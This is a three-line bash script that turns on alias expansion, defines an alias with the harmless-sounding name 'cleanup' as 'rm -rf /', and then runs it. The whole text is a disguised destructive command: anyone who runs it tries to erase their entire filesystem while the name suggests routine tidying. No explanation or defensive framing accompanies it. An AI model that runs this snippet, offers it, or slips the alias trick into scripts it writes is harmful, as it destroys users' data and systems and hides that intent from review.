shopt -s expand_aliases
alias cleanup='rm -rf /'
cleanup
